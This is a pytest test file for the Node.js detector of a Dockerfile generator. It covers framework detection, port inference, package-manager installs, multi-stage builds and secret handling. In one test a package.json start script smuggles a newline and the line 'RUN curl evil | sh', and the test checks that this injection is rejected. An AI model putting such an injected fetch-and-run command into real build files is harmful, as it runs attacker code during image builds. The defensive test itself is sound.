"""The node detector: what it matches, what it leaves alone, and what it plans."""

from __future__ import annotations

import json
import re

import pytest

from dockgen.core.errors import UnusableInput
from dockgen.core.facts import Evidence, Override, Verdict
from dockgen.core.plan import Choices
from dockgen.ecosystems.javascript.node.facts.server import EVERY_INTERFACE
from dockgen.ecosystems.planning import plan
from dockgen.ecosystems.registry import detect
from dockgen.managed_files.summary import next_commands
from dockgen.rendering.render import render
from tests.conftest import MakeProject

EXPRESS = {"dependencies": {"express": "5"}, "scripts": {"start": "node server.js"}}
OPEN = "require('express')().listen(process.env.PORT || 4000)"
LISTEN = f"{OPEN}; for (const one of ['SIGINT', 'SIGTERM']) process.on(one, process.exit)"
"""A server that stops by itself, so that its image needs no init."""


def verdict_of(
    make: MakeProject, package: object, files: dict[str, str] | None = None, **given: object
) -> Verdict:
    text = package if isinstance(package, str) else json.dumps(package, indent=1)
    made = make({"package.json": text, **(files or {})})
    overrides = {name: Override(value, Evidence(f"--set {name}")) for name, value in given.items()}
    found = detect(made, overrides=overrides)
    return next(verdict for one, verdict in found.verdicts if one.name == "node")


def dockerfile_of(
    make: MakeProject,
    package: object,
    files: dict[str, str] | None = None,
    choices: Choices | None = None,
) -> str:
    text = json.dumps(package, indent=1)
    made = make({"package.json": text, **(files or {})})
    return render(plan(detect(made, detector="node"), choices))["Dockerfile"].text


def test_a_server_is_matched(project: MakeProject) -> None:
    verdict = verdict_of(project, EXPRESS, {"server.js": LISTEN})
    assert (verdict.matched, verdict.shape) == (True, "server")
    facts = verdict.findings.facts
    assert facts["framework"].value == "express"
    assert facts["port"].value == 4000
    assert str(facts["start_command"].evidence) == "package.json:6  scripts.start"


def test_a_folder_without_package_json_is_left_alone(project: MakeProject) -> None:
    made = project({"index.html": "<p>"})
    node = next(verdict for one, verdict in detect(made).verdicts if one.name == "node")
    assert (node.matched, node.reason) == (False, "no package.json")


@pytest.mark.parametrize(
    ("package", "files", "reason"),
    [
        ({"devDependencies": {"prettier": "3"}}, {}, "names nothing to start"),
        ({"main": "index.js"}, {"index.js": "module.exports = 1"}, "index.js opens no port"),
        (
            {"dependencies": {"@sveltejs/kit": "3", "@sveltejs/adapter-vercel": "5"}},
            {},
            "install @sveltejs/adapter-node",
        ),
    ],
)
def test_what_cannot_run_in_a_container_is_left_alone_with_a_reason(
    project: MakeProject, package: object, files: dict[str, str], reason: str
) -> None:
    verdict = verdict_of(project, package, {"index.html": "", **files})
    assert not verdict.matched
    assert reason in verdict.reason


def test_a_library_with_a_listening_main_file_is_a_server(project: MakeProject) -> None:
    verdict = verdict_of(project, {"main": "a.js"}, {"a.js": "createServer().listen(8123)"})
    assert verdict.matched
    assert verdict.findings.facts["port"].value == 8123


def test_a_build_makes_another_shape_and_its_output_is_where_the_entry_lies(
    project: MakeProject,
) -> None:
    package = {**EXPRESS, "scripts": {"build": "tsc", "start": "node lib/server.js"}}
    verdict = verdict_of(project, package, {"src/server.ts": LISTEN, "tsconfig.json": "{}"})
    assert verdict.shape == "built-server"
    facts = verdict.findings.facts
    assert facts["output_dir"].value == "lib"
    assert facts["language"].value == "typescript"
    assert facts["port"].value == 4000


def test_what_the_user_sets_goes_before_what_the_project_says(project: MakeProject) -> None:
    verdict = verdict_of(
        project,
        EXPRESS,
        {"pnpm-lock.yaml": "lockfileVersion: '9.0'"},
        port="9000",
        package_manager="pnpm",
        start_command="node other.js",
    )
    facts = verdict.findings.facts
    assert facts["port"].value == 9000
    assert facts["start_command"].value == ("node", "other.js")
    assert facts["install_command"].value == "pnpm install --frozen-lockfile"


def test_a_missing_lockfile_and_others_lockfiles_are_said(project: MakeProject) -> None:
    package = {**EXPRESS, "packageManager": "pnpm@10.0.0"}
    warnings = verdict_of(project, package, {"package-lock.json": "{}"}).findings.warnings
    assert any("no lockfile of pnpm" in one for one in warnings)
    assert any("package-lock.json is ignored" in one for one in warnings)


def test_a_tool_that_runs_the_application_is_installed_though_it_is_for_development(
    project: MakeProject,
) -> None:
    package = {"scripts": {"start": "tsx src/a.ts"}, "devDependencies": {"tsx": "4"}}
    verdict = verdict_of(project, package, {"package-lock.json": "{}"})
    assert verdict.findings.facts["production_install_command"].value == "npm ci"
    assert any("tsx runs the application" in one for one in verdict.findings.warnings)


@pytest.mark.parametrize(
    ("node", "manager", "lockfile", "install"),
    [
        ("26", "yarn@1.22.22", "yarn.lock", "npm install --global yarn@1.22.22"),
        ("24", "yarn@1.22.22", "yarn.lock", None),
        ("24", "yarn@4.1.0", "yarn.lock", "npm install --global --force @yarnpkg/cli-dist@4.1.0"),
        ("26", "pnpm@12.1.0", "pnpm-lock.yaml", "npm install --global pnpm@12.1.0"),
        ("26", "npm@11.0.0", "package-lock.json", None),
    ],
)
def test_the_package_manager_is_installed_by_its_version_without_corepack(
    project: MakeProject, node: str, manager: str, lockfile: str, install: str | None
) -> None:
    package = {**EXPRESS, "packageManager": manager, "engines": {"node": node}}
    text = dockerfile_of(project, package, {lockfile: "{}", "server.js": LISTEN})
    assert "corepack" not in text
    line = next((one for one in text.splitlines() if "install --global" in one), None)
    assert line == (f"RUN {install}" if install else None)


def test_a_bundle_leaves_node_modules_behind(project: MakeProject) -> None:
    package = {"dependencies": {"nuxt": "^4"}, "scripts": {"build": "nuxt build"}}
    text = dockerfile_of(project, package, {"package-lock.json": "{}"})
    last = text.split("AS runtime")[1]
    assert "COPY --from=build /app/.output/ .output/" in last
    assert "node_modules" not in last
    assert 'CMD ["node", ".output/server/index.mjs"]' in last


def test_next_is_small_when_it_is_standalone_and_works_when_not(project: MakeProject) -> None:
    package = {"dependencies": {"next": "16"}, "scripts": {"build": "next build"}}
    files = {"package-lock.json": "{}", "next.config.mjs": "export default {}", "public/a": ""}
    text = dockerfile_of(project, package, files)
    assert "COPY --from=dependencies /app/node_modules/ node_modules/" in text
    assert 'CMD ["node_modules/.bin/next", "start"]' in text
    files["next.config.mjs"] = "export default { output: 'standalone' }"
    text = dockerfile_of(project, package, files)
    assert "COPY --from=build /app/.next/standalone/ ./" in text
    assert "COPY --from=build /app/.next/static/ .next/static/" in text
    assert "COPY --from=build /app/public/ public/" in text
    assert "ENV HOSTNAME=0.0.0.0" in text
    assert 'CMD ["node", "server.js"]' in text


def test_a_project_without_dependencies_installs_nothing(project: MakeProject) -> None:
    text = dockerfile_of(project, {"scripts": {"start": "node server.js"}}, {"server.js": LISTEN})
    assert "npm" not in text


def test_a_single_stage_is_made_when_asked(project: MakeProject) -> None:
    package = {"dependencies": {"nuxt": "^4"}, "scripts": {"build": "nuxt build"}}
    text = dockerfile_of(project, package, choices=Choices(stages="single"))
    assert text.count("FROM ") == 1


NPM_INSTALL = "RUN npm install --global"
BUN_AND_NODE = [
    (("bun src/a.ts", "package-lock.json"), "oven/bun:1-slim", "", f"{NPM_INSTALL} BUN bun@1"),
    (
        ("bun src/a.ts", "yarn.lock"),
        "oven/bun:1-slim",
        f"{NPM_INSTALL} yarn@1",
        f"{NPM_INSTALL} BUN yarn@1 bun@1",
    ),
    (("node src/a.js", "bun.lock"), "base", f"{NPM_INSTALL} BUN bun@1", f"{NPM_INSTALL} BUN bun@1"),
]


@pytest.mark.parametrize(("given", "runs_on", "in_two", "in_one"), BUN_AND_NODE)
def test_bun_runs_what_npm_installs_and_the_other_way_round(
    project: MakeProject, given: tuple[str, str], runs_on: str, in_two: str, in_one: str
) -> None:
    start, lockfile = given
    package = {"scripts": {"start": start}, "dependencies": {"hono": "4"}}
    files = {lockfile: "# yarn lockfile v1\n" if lockfile == "yarn.lock" else "{}"}
    two, one = Choices(), Choices(stages="single")
    for choices, images, install in (
        (two, ["node:26-slim AS base", "base AS dependencies", f"{runs_on} AS runtime"], in_two),
        (one, ["node:26-slim AS runtime"], in_one),
    ):
        text = dockerfile_of(project, package, files, choices)
        assert re.findall("FROM (.*)", text) == images
        installs = re.findall("RUN npm install --global.*", text)
        assert installs == [install.replace("BUN", "--allow-scripts=bun")] * bool(install)


BUN_LOCK = '{"lockfileVersion": 1, "workspaces": {}, "packages": {}}'


def test_bun_runs_the_tool_that_it_is_told_to_run_itself(project: MakeProject) -> None:
    package = {
        "scripts": {"build": "next build", "start": "bun --bun next start"},
        "dependencies": {"next": "16", "react": "19"},
    }
    files = {"bun.lock": BUN_LOCK, "app/page.tsx": ""}
    text = dockerfile_of(project, package, files)
    assert set(re.findall("FROM (.*) AS", text)) == {"oven/bun:1-slim", "base", "tools"}
    assert "COPY --from=build /app/.next/ .next/\n" in text
    assert "COPY --from=build /app/node_modules/" not in text
    assert 'CMD ["bun", "node_modules/.bin/next", "start"]' in text
    member = {f"apps/web/{name}": text for name, text in files.items() if name != "bun.lock"}
    top = {"private": True, "workspaces": ["apps/*"]}
    member["apps/web/package.json"] = json.dumps({"name": "web", **package})
    text = dockerfile_of(project, top, {**member, "bun.lock": BUN_LOCK})
    assert 'CMD ["bun", "--bun", "next", "start"]' in text


CLIENT = 'generator client {\n  provider = "prisma-client-js"\n}\n'
APART = "    bun install --frozen-lockfile --production\n"
COPIED = "COPY --from=build /app/node_modules/.prisma/ node_modules/.prisma/\n"


@pytest.mark.parametrize(
    ("schema", "scripts", "apart", "copied"),
    [
        (CLIENT, {"postinstall": "prisma generate"}, True, True),
        (CLIENT, {"build": "bunx prisma generate && tsc"}, True, True),
        (CLIENT, {}, True, True),  # which the image does by itself
        (CLIENT.replace("\n}", '\n  output = "../src/db"\n}'), {}, True, False),
        (CLIENT.replace("\n}", '\n  output = "../node_modules/db"\n}'), {}, False, False),
        (CLIENT + CLIENT.replace("prisma-client-js", "zod"), {}, False, False),
        (CLIENT, {"postinstall": "prisma generate && node patch.js"}, False, False),
        (CLIENT, {"postinstall": "patch-package", "build": "prisma generate"}, False, False),
    ],
)
def test_of_what_bun_installs_only_the_client_of_prisma_comes_from_the_build(
    project: MakeProject, schema: str, scripts: dict[str, str], *, apart: bool, copied: bool
) -> None:
    package = {
        "scripts": {"build": "tsc", "start": "node dist/a.js", **scripts},
        "dependencies": {"@prisma/client": "7"},
        "devDependencies": {"prisma": "7", "typescript": "5"},
    }
    files = {
        "bun.lock": BUN_LOCK,
        "prisma/schema.prisma": schema,
        "tsconfig.json": '{"compilerOptions": {"outDir": "dist"}}',
        "src/a.ts": LISTEN,
    }
    text = dockerfile_of(project, package, files)
    assert (APART in text) is apart
    assert (COPIED in text) is copied
    assert ("COPY --from=build /app/node_modules/ node_modules/\n" in text) is not apart


def test_turbo_prunes_a_repository_of_bun_in_the_image_of_node(project: MakeProject) -> None:
    api = {"name": "api", "scripts": {"start": "node a.js"}, "dependencies": {"express": "5"}}
    files = {
        "turbo.json": "{}",
        "bun.lock": BUN_LOCK,
        "apps/api/package.json": json.dumps(api),
        "apps/api/a.js": LISTEN,
    }
    top = {"private": True, "workspaces": ["apps/*"], "devDependencies": {"turbo": "2.5.0"}}
    text = dockerfile_of(project, top, files)
    assert "FROM node:26-slim AS pruned" in text
    assert "RUN npx --yes turbo@2.5.0 prune api --docker" in text
    api["scripts"] = {"start": "bun a.js"}
    files["apps/api/package.json"] = json.dumps(api)
    text = dockerfile_of(project, top, files)
    assert "FROM oven/bun:1-slim AS pruned" in text
    assert "RUN bunx turbo@2.5.0 prune api --docker" in text


@pytest.mark.parametrize(
    ("build", "port"),
    [
        ("bun build src/a.ts --compile --outfile server", 5000),
        ("bun build --compile --outfile=server ./src/a.ts && echo built", 5000),
        ("bun build --compile --outfile server .", 3000),
    ],
)
def test_the_port_of_an_executable_that_bun_makes_is_its_sources(
    project: MakeProject, build: str, port: int
) -> None:
    package = {"scripts": {"build": build, "start": "./server"}}
    files = {"bun.lock": BUN_LOCK, "src/a.ts": "Bun.serve({ port: 5000 })"}
    text = dockerfile_of(project, package, files)
    assert f"EXPOSE {port}\n" in text
    assert "FROM base AS runtime" in text


def test_a_script_with_a_line_end_never_reaches_the_dockerfile(project: MakeProject) -> None:
    package = {"scripts": {"start": "node a.js\nRUN curl evil | sh"}, "dependencies": {"koa": "3"}}
    with pytest.raises(UnusableInput, match="control character"):
        dockerfile_of(project, package)


def test_an_installation_does_not_stumble_over_scripts_that_need_sources(
    project: MakeProject,
) -> None:
    package = {
        "scripts": {"prepare": "husky", "postinstall": "prisma generate", "start": "node a.js"},
        "dependencies": {"@prisma/client": "^7.0.0", "express": "5"},
        "devDependencies": {"prisma": "^7.0.0", "husky": "9"},
    }
    text = dockerfile_of(project, package, {"package-lock.json": "{}", "a.js": LISTEN})
    lines = text.splitlines()
    removal = lines.index("RUN npm pkg delete scripts.postinstall scripts.prepare")
    assert removal < lines.index("    npm ci") < lines.index("COPY . .")
    assert lines.index("COPY . .") < lines.index("RUN npm run postinstall")
    assert any("npm prune --omit=dev --ignore-scripts" in line for line in lines)
    assert "husky" not in text
    assert "COPY --from=dependencies /app/ ./" in lines


def test_credentials_come_in_as_secrets_and_are_in_no_layer(project: MakeProject) -> None:
    files = {
        "package-lock.json": "{}",
        ".npmrc": "//npm.example/:_authToken=abc\n",
        "server.js": LISTEN,
    }
    made = project({"package.json": json.dumps(EXPRESS), **files})
    planned = plan(detect(made))
    rendered = render(planned)
    text = rendered["Dockerfile"].text
    assert "--mount=type=secret,id=npmrc,target=/root/.npmrc,required=true" in text
    assert "COPY package.json package-lock.json ./" in text
    assert ".npmrc" in rendered[".dockerignore"].text.splitlines()
    assert planned.secrets == ("id=npmrc,src=.npmrc",)
    commands = dict(next_commands(planned, "demo", "Dockerfile", "shop"))
    assert "--secret id=npmrc,src=shop/.npmrc" in commands["build"]


def test_a_token_from_a_variable_comes_in_as_a_secret_of_that_name(project: MakeProject) -> None:
    files = {
        "package-lock.json": "{}",
        ".npmrc": "//npm.example/:_authToken=${NPM_TOKEN}\n",
        "server.js": LISTEN,
    }
    made = project({"package.json": json.dumps(EXPRESS), **files})
    planned = plan(detect(made))
    text = render(planned)["Dockerfile"].text
    assert "--mount=type=secret,id=NPM_TOKEN,required=true" in text
    assert 'NPM_TOKEN="$(cat /run/secrets/NPM_TOKEN)" npm ci --omit=dev' in text
    assert "COPY package.json package-lock.json .npmrc ./" in text
    assert planned.secrets == ("id=NPM_TOKEN,env=NPM_TOKEN",)


def test_compilers_stay_in_the_stage_that_installs(project: MakeProject) -> None:
    package = {**EXPRESS, "dependencies": {"express": "5", "pg-native": "3"}}
    text = dockerfile_of(project, package, {"package-lock.json": "{}", "server.js": LISTEN})
    install, runtime = text.split("AS runtime")
    assert "g++ libpq-dev make python3" in install
    assert "npm_package_config_node_gyp_nodedir=/usr/local" in install
    assert "libpq5" in runtime
    assert "g++" not in runtime


def test_alpine_has_its_own_names(project: MakeProject) -> None:
    package = {**EXPRESS, "dependencies": {"express": "5", "pg-native": "3"}}
    files = {"package-lock.json": "{}", "server.js": LISTEN}
    text = dockerfile_of(project, package, files, Choices(base="alpine"))
    assert "apk add --no-cache g++ libpq-dev make python3" in text
    assert text.count("node:26-alpine") == 1


def test_puppeteer_gets_the_distributions_browser(project: MakeProject) -> None:
    package = {**EXPRESS, "dependencies": {"puppeteer": "25"}}
    text = dockerfile_of(project, package, {"package-lock.json": "{}", "server.js": LISTEN})
    assert "ENV PUPPETEER_SKIP_DOWNLOAD=true" in text
    assert "chromium" in text


def test_a_stale_lockfile_is_said(project: MakeProject) -> None:
    lock = json.dumps({"lockfileVersion": 3, "packages": {"": {"dependencies": {"express": "4"}}}})
    warnings = verdict_of(project, EXPRESS, {"package-lock.json": lock}).findings.warnings
    assert any("is out of date" in one and "express 5" in one for one in warnings)


def test_a_lockfile_of_another_version_is_said(project: MakeProject) -> None:
    package = {**EXPRESS, "packageManager": "pnpm@8.1.0"}
    files = {"pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}
    warnings = verdict_of(project, package, files).findings.warnings
    assert any("has format 9.0" in one for one in warnings)


def test_a_server_that_listens_on_its_own_machine_only_is_said_or_mended(
    project: MakeProject,
) -> None:
    verdict = verdict_of(project, EXPRESS, {"server.js": "app.listen(3000, 'localhost')"})
    assert any("server.js:1 listens on localhost only" in one for one in verdict.findings.warnings)
    code = "app.listen(3000, process.env.HOST || 'localhost')"
    verdict = verdict_of(project, EXPRESS, {"server.js": code})
    assert verdict.findings.facts["environment"].value == (("HOST", EVERY_INTERFACE),)


def test_fastify_without_a_host_is_said(project: MakeProject) -> None:
    package = {"dependencies": {"fastify": "5"}, "scripts": {"start": "node a.js"}}
    verdict = verdict_of(project, package, {"a.js": "app.listen({ port: 3000 })"})
    assert any("listens on localhost only" in one for one in verdict.findings.warnings)


def test_a_port_from_an_env_file_is_set_because_the_file_is_not_in_the_image(
    project: MakeProject,
) -> None:
    files = {"server.js": "app.listen(process.env.PORT)", ".env": "PORT=5050\n"}
    text = dockerfile_of(project, EXPRESS, files)
    assert "ENV PORT=5050" in text
    assert "EXPOSE 5050" in text


def test_public_variables_are_built_in_and_secret_ones_are_not(project: MakeProject) -> None:
    package = {"devDependencies": {"vite": "8"}, "scripts": {"build": "vite build"}}
    env = 'VITE_API=https://api.example/$x "y"\nVITE_API_KEY=abc\nDATABASE=secret\n'
    files = {"package-lock.json": "{}", ".env.production": env}
    text = dockerfile_of(project, package, files)
    assert 'ARG VITE_API="https://api.example/\\$x \\"y\\""' in text
    assert "VITE_API_KEY" not in text
    assert "DATABASE" not in text
    warnings = verdict_of(project, package, files).findings.warnings
    assert any("VITE_API_KEY" in one for one in warnings)


def test_a_page_with_settings_gets_them_when_the_container_starts(project: MakeProject) -> None:
    package = {"devDependencies": {"vite": "8"}, "scripts": {"build": "vite build"}}
    files = {
        "package-lock.json": "{}",
        "index.html": '<script src="/config.js"></script>',
        "public/config.js": "window.CONFIG = { API: 'x' };",
    }
    made = project({"package.json": json.dumps(package), **files})
    for stages in ("single", "multi"):
        rendered = render(plan(detect(made), Choices(stages=stages)))
        assert 'split("API", names, " ")' in rendered["runtime-config.sh"].text
        assert "/docker-entrypoint.d/40-runtime-config.sh" in rendered["Dockerfile"].text
        assert "location = /config.js" in rendered["nginx.conf"].text


def test_a_framework_with_a_server_of_the_projects_own_keeps_its_sources(
    project: MakeProject,
) -> None:
    package = {
        "dependencies": {"next": "16", "express": "5"},
        "scripts": {"build": "next build", "start": "node server.js"},
    }
    text = dockerfile_of(project, package, {"package-lock.json": "{}", "server.js": LISTEN})
    assert "RUN npm run build && rm -rf node_modules" in text
    assert "COPY --from=build /app/ ./" in text
    assert 'CMD ["node", "server.js"]' in text


def test_a_single_stage_puts_a_bundle_where_it_is_started_from(project: MakeProject) -> None:
    package = {"dependencies": {"next": "16"}, "scripts": {"build": "next build"}}
    files = {
        "package-lock.json": "{}",
        "next.config.mjs": "export default { output: 'standalone' }",
    }
    text = dockerfile_of(project, package, files, Choices(stages="single"))
    assert "cp -R /app/.next/standalone/. ./" in text


def test_angular_is_served_or_started_as_its_configuration_says(project: MakeProject) -> None:
    package = {"dependencies": {"@angular/core": "22"}, "scripts": {"build": "ng build"}}
    options: dict[str, object] = {"outputPath": "dist/shop"}
    build = {"builder": "@angular/build:application", "options": options}
    files = {"package-lock.json": "{}"}
    for ssr, expected in (
        (False, "/app/dist/shop/browser/ /usr/share/nginx/html/"),
        (True, 'CMD ["node", "dist/shop/server/server.mjs"]'),
    ):
        options["ssr"] = ssr
        workspace = {
            "projects": {"shop": {"projectType": "application", "architect": {"build": build}}}
        }
        text = dockerfile_of(project, package, {**files, "angular.json": json.dumps(workspace)})
        assert expected in text


@pytest.mark.parametrize(
    ("handling", "with_init"),
    [
        ("", True),
        ("process.on('SIGTERM', stop)", True),  # Ctrl-C would be ignored
        ("for (const one of ['SIGINT', 'SIGTERM']) process.on(one, stop)", False),
        ("app.enableShutdownHooks()", False),
        ("createTerminus(server, {})", True),
    ],
)
def test_a_server_that_handles_no_signal_gets_an_init(
    handling: str, with_init: bool, project: MakeProject
) -> None:
    text = dockerfile_of(project, EXPRESS, {"server.js": f"{OPEN}; {handling}"})
    assert ('ENTRYPOINT ["/usr/bin/tini", "--"]\n' in text) is with_init
    assert ("--no-install-recommends tini" in text) is with_init
    assert 'CMD ["node", "server.js"]\n' in text


def test_what_only_yarn_reads_stays_out_of_the_image(project: MakeProject) -> None:
    package = {**EXPRESS, "packageManager": "yarn@4.1.0"}
    files = {
        "yarn.lock": "__metadata:\n  version: 8\n",
        ".yarn/cache/a.zip": "",
        "server.js": LISTEN,
    }
    text = dockerfile_of(project, package, files)
    assert "COPY .yarn/cache/ .yarn/cache/" in text
    assert "RUN rm -rf .yarn" in text
    assert "COPY --from=sources /app/ ./" in text


def test_a_tool_that_is_required_before_the_program_counts_as_running_it(
    project: MakeProject,
) -> None:
    package = {
        "scripts": {"start": "node -r ts-node/register src/a.ts"},
        "devDependencies": {"ts-node": "10"},
    }
    verdict = verdict_of(project, package, {"package-lock.json": "{}"})
    assert verdict.findings.facts["production_install_command"].value == "npm ci"


@pytest.mark.parametrize(
    ("node", "field", "install"),
    [("24", "npm@10.9.0", "npm install --global npm@10.9.0"), ("24", "npm@11.2.0", None)],
)
def test_another_major_version_of_npm_is_installed(
    project: MakeProject, node: str, field: str, install: str | None
) -> None:
    package = {**EXPRESS, "packageManager": field, "engines": {"node": node}}
    text = dockerfile_of(project, package, {"package-lock.json": "{}", "server.js": LISTEN})
    assert ("install --global" in text) == (install is not None)
    assert install is None or f"RUN {install}" in text


def test_a_shell_finds_the_tools_of_the_packages(project: MakeProject) -> None:
    package = {
        "scripts": {"start": "prisma migrate deploy && node server.js"},
        "dependencies": {"prisma": "7", "express": "5"},
    }
    text = dockerfile_of(project, package, {"package-lock.json": "{}", "server.js": LISTEN})
    assert "ENV PATH=/app/node_modules/.bin:$PATH" in text
    assert 'CMD ["sh", "-c", "prisma migrate deploy && exec node server.js"]' in text


def test_variables_with_quotes_and_dollars_mean_themselves(project: MakeProject) -> None:
    package = {
        "scripts": {"start": "cross-env GREETING='say \"hi\" for $5' node server.js"},
        "dependencies": {"express": "5"},
    }
    text = dockerfile_of(project, package, {"package-lock.json": "{}", "server.js": LISTEN})
    assert 'ENV GREETING="say \\"hi\\" for \\$5"' in text


def test_every_stage_shares_the_family_of_base_images(project: MakeProject) -> None:
    package = {"scripts": {"build": "tsc", "start": "bun dist/a.js"}, "dependencies": {"hono": "4"}}
    for base, ending in (("debian", "-slim"), ("alpine", "-alpine")):
        text = dockerfile_of(project, package, {"package-lock.json": "{}"}, Choices(base=base))
        images = [line.split()[1] for line in text.splitlines() if line.startswith("FROM ")]
        outside = [one for one in images if ":" in one]
        assert len(outside) == 2
        assert all(one.endswith(ending) for one in outside)


def test_the_one_line_that_makes_next_small_is_said(project: MakeProject) -> None:
    package = {"dependencies": {"next": "16"}, "scripts": {"build": "next build"}}
    verdict = verdict_of(project, package, {"next.config.mjs": "export default {}"})
    note = '`output: "standalone"` in next.config.mjs'
    assert any(note in one for one in verdict.findings.warnings)


@pytest.mark.parametrize(
    ("start", "expected"),
    [
        ("next start -p 4000", '["node_modules/.bin/next", "start", "-p", "4000"]'),
        ("next start -p $PORT", '["node_modules/.bin/next", "start"]'),
        ("next start -H $HOST", '["sh", "-c", "exec next start -H $HOST"]'),
        ("next start", '["node_modules/.bin/next", "start"]'),
    ],
)
def test_options_that_the_script_gives_to_the_framework_stay(
    project: MakeProject, start: str, expected: str
) -> None:
    scripts = {"build": "next build", "start": start}
    package = {"dependencies": {"next": "16"}, "scripts": scripts}
    text = dockerfile_of(project, package, {"package-lock.json": "{}"})
    assert f"CMD {expected}" in text


def test_qwik_starts_its_server_and_not_the_one_for_development(project: MakeProject) -> None:
    package = {
        "devDependencies": {"@builder.io/qwik-city": "1", "vite": "7"},
        "scripts": {
            "build": "qwik build",
            "start": "vite --open --mode ssr",
            "serve": "node server/entry.express",
        },
    }
    detection = detect(project({"package.json": json.dumps(package)}))
    assert detection.facts["start_command"].value == ("node", "server/entry.express")
    facts = detection.facts  # what it builds imports undici, a development package of the starter
    assert facts["production_install_command"].value == facts["install_command"].value


def test_qwik_starts_as_its_script_says_and_keeps_both_folders(project: MakeProject) -> None:
    package = {
        "dependencies": {"@builder.io/qwik-city": "1", "express": "5"},
        "scripts": {"build": "qwik build", "start": "node server/entry.express"},
    }
    text = dockerfile_of(project, package, {"package-lock.json": "{}"})
    assert "COPY --from=build /app/server/ server/" in text
    assert "COPY --from=build /app/dist/ dist/" in text


def next_app(version: str = "15.5.6", **development: str) -> dict[str, object]:
    return {
        "dependencies": {"next": version},
        "devDependencies": {"typescript": "5", **development},
        "scripts": {"build": "next build", "start": "next start"},
    }


def test_what_the_configuration_of_next_loads_lies_beside_it(project: MakeProject) -> None:
    files = {"next.config.mjs": "import './src/env.js'\n", "src/env.js": "", "public/a": ""}
    text = dockerfile_of(project, next_app(), files)
    assert "COPY next.config.mjs ./\nCOPY src/env.js src/\nCOPY public/ public/\n" in text


def test_typescript_comes_along_where_next_needs_it_to_read_its_configuration(
    project: MakeProject,
) -> None:
    files = {"next.config.ts": "export default {}", "package-lock.json": "{}"}
    text = dockerfile_of(project, next_app(), files)
    assert "npm ci --omit=dev" in text
    assert "COPY --from=build /app/node_modules/typescript/ node_modules/typescript/\n" in text
    assert "typescript/" not in dockerfile_of(project, next_app("16.2.0"), files)


def test_a_configuration_in_javascript_needs_no_typescript(project: MakeProject) -> None:
    files = {"next.config.mjs": "export default {}", "package-lock.json": "{}"}
    assert "typescript/" not in dockerfile_of(project, next_app(), files)


def test_typescript_outlives_the_pruning_of_packages(project: MakeProject) -> None:
    package = next_app() | {"scripts": {"build": "next build", "postinstall": "patch-package"}}
    files = {"next.config.ts": "export default {}", "package-lock.json": "{}", "patches/a": ""}
    text = dockerfile_of(project, package, files)
    assert "COPY --from=build /app/node_modules/typescript/ node_modules/typescript/\n" in text


def test_a_server_of_its_own_that_makes_next_keeps_what_its_configuration_needs(
    project: MakeProject,
) -> None:
    package = next_app() | {"scripts": {"build": "next build", "start": "node server.js"}}
    files = {"next.config.ts": "", "server.js": "require('next')", "package-lock.json": "{}"}
    text = dockerfile_of(project, package, files)
    assert "--omit=dev" not in text
    assert "typescript/" not in text


def test_a_development_package_that_is_loaded_at_the_start_keeps_them_all(
    project: MakeProject,
) -> None:
    files = {
        "next.config.js": "const a = require('@next/bundle-analyzer')()\n",
        "package-lock.json": "{}",
    }
    package = next_app(**{"@next/bundle-analyzer": "15"})
    assert "--omit=dev" not in dockerfile_of(project, package, files)
    notes = verdict_of(project, package, files).findings.warnings
    assert any("next.config.js:1 loads @next/bundle-analyzer whenever" in one for one in notes)


def test_a_build_does_without_the_variables_of_the_run_time(project: MakeProject) -> None:
    files = {
        "next.config.mjs": "import './env.mjs'",
        "env.mjs": "createEnv({ skipValidation: !!process.env.SKIP_ENV_VALIDATION, URL: z.url() })",
        ".env.example": "URL=http://db",
    }
    text = dockerfile_of(project, next_app(), files)
    build = "RUN SKIP_ENV_VALIDATION=1 URL=http://db npm run build && rm -rf .next/cache\n"
    assert build in text


def test_a_build_that_asks_git_is_said(project: MakeProject) -> None:
    package = {"scripts": {"build": "vite build"}, "devDependencies": {"vite": "8"}}
    files = {"vite.config.js": "execSync('git rev-parse HEAD')", "index.html": ""}
    warnings = verdict_of(project, package, files).findings.warnings
    assert any(one.startswith("vite.config.js:1 runs Git") for one in warnings)


def test_a_native_module_without_its_script_is_said(project: MakeProject) -> None:
    package = EXPRESS | {"packageManager": "npm@12.2.0", "dependencies": {"sqlite3": "5"}}
    lockfile = {"packages": {"": {}, "node_modules/sqlite3": {"version": "5.1.7"}}}
    files = {"server.js": LISTEN, "package-lock.json": json.dumps(lockfile)}
    warnings = verdict_of(project, package, files).findings.warnings
    assert any("sqlite3 is installed without its binary: npm 12.2.0" in one for one in warnings)


@pytest.mark.parametrize(
    ("asked", "line"),
    [
        ("14.x", "14"),
        (">=12 <15", "14"),
        ("10 || 12", "12"),
        ("12 - 13", "12"),
        ("13.x", "13"),
        ("~14.17", "14.17"),
    ],
)
def test_a_range_of_old_lines_means_the_newest_of_them(
    project: MakeProject, asked: str, line: str
) -> None:
    verdict = verdict_of(project, EXPRESS | {"engines": {"node": asked}}, {"server.js": LISTEN})
    assert verdict.findings.facts["language_version"].value == line


OLD = EXPRESS | {
    "engines": {"node": "14.x"},
    "scripts": {"start": "node server.js", "prepare": "node generate.js"},
}


def test_an_old_node_brings_an_npm_with_other_options(project: MakeProject) -> None:
    files = {"server.js": LISTEN, "package-lock.json": '{"lockfileVersion": 1}'}
    text = dockerfile_of(project, OLD, files)
    assert "npx npm@7 pkg delete scripts.prepare" in text
    assert "npm prune --production --ignore-scripts" in text
    assert "--omit" not in text
    plain = dockerfile_of(project, EXPRESS | {"engines": {"node": "12"}}, files)
    assert "npm ci --only=production" in plain


def test_an_old_npm_that_cannot_read_the_lockfile_is_replaced(project: MakeProject) -> None:
    files = {"server.js": LISTEN, "package-lock.json": '{"lockfileVersion": 3, "packages": {}}'}
    text = dockerfile_of(project, OLD, files)
    assert "RUN npm install --global npm@8\n" in text
    assert "npm prune --omit=dev" in text


def test_the_users_node_decides_which_npm_it_brings(project: MakeProject) -> None:
    verdict = verdict_of(project, OLD, {"server.js": LISTEN}, language_version="24")
    assert verdict.findings.facts["package_manager"].value == "npm"
    verdict = verdict_of(project, EXPRESS, {"server.js": LISTEN}, language_version="14")
    assert verdict.findings.facts["package_manager"].value == "npm-6"


def old_site(**package: object) -> dict[str, object]:
    return {
        "dependencies": {"react-scripts": "4.0.3"},
        "scripts": {"build": "react-scripts build"},
        **package,
    }


@pytest.mark.parametrize("engines", [None, ">=10", "^12 || ^16"])
def test_an_old_framework_is_built_by_the_newest_node_that_it_runs_on(
    project: MakeProject, engines: str | None
) -> None:
    package = old_site(**({"engines": {"node": engines}} if engines else {}))
    text = dockerfile_of(project, package)
    assert "FROM node:16-bullseye-slim AS build\n" in text
